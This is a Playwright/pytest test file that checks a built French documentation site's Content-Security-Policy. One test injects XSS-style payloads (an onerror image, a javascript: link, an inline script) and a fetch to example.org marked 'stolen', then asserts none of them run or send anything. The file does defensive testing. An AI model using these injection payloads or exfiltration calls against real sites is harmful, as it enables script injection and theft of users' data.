"""The built pages work under their own policy, and markup that found its way in does nothing."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.depot import Depot

pytestmark = [pytest.mark.browser, pytest.mark.built]

SMUGGLED = """() => {
  document.body.insertAdjacentHTML('beforeend',
    '<img src=x onerror="window.ran = 1"><p id=styled style="position: fixed">x</p>' +
    '<a id=link href="javascript:window.ran = 2">x</a>');
  document.getElementById('link').click();
  const script = document.createElement('script');
  script.textContent = 'window.ran = 3';
  document.body.append(script);
}"""


def test_every_page_bears_the_policy(site: Path) -> None:
    for path in site.rglob("*.html"):
        head = path.read_text("utf-8").partition("</head>")[0]
        assert head.count('<meta http-equiv="Content-Security-Policy"') == 1, path


def test_a_visit_with_a_search_and_a_lost_page_stays_within_the_policy(
    open_page: Callable[..., Page],
) -> None:
    page = open_page()
    page.evaluate("window.sameDocument = true")
    page.locator("input[name=query]").focus()
    page.keyboard.type("attestations")
    found = page.locator(".md-search-result__item [href*='guide/attestations/']").first
    expect(found).to_be_visible(timeout=30_000)
    found.click()
    page.wait_for_url("**/guide/attestations/**")
    expect(page.locator(".md-content h1")).to_contain_text("Que vaut mon document ?")
    assert page.evaluate("window.sameDocument"), "the theme left the page"
    page.goto("cette-page-n-existe-pas.html")
    expect(page.locator("h1")).to_have_text("Cette page n’existe pas")


def test_smuggled_markup_neither_runs_nor_asks(browser: Browser, depot: Depot) -> None:
    # Not through `open_page`, which fails when the policy has something to refuse.
    page = browser.new_page(base_url=depot.url)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto("guide/anef/")
    page.evaluate(SMUGGLED)
    page.evaluate("fetch('https://example.org/?stolen').catch(() => {})")
    assert page.evaluate("[window.ran, getComputedStyle(styled).position]") == [None, "static"]
    assert not [url for url in asked if "example.org" in url]
    page.context.close()
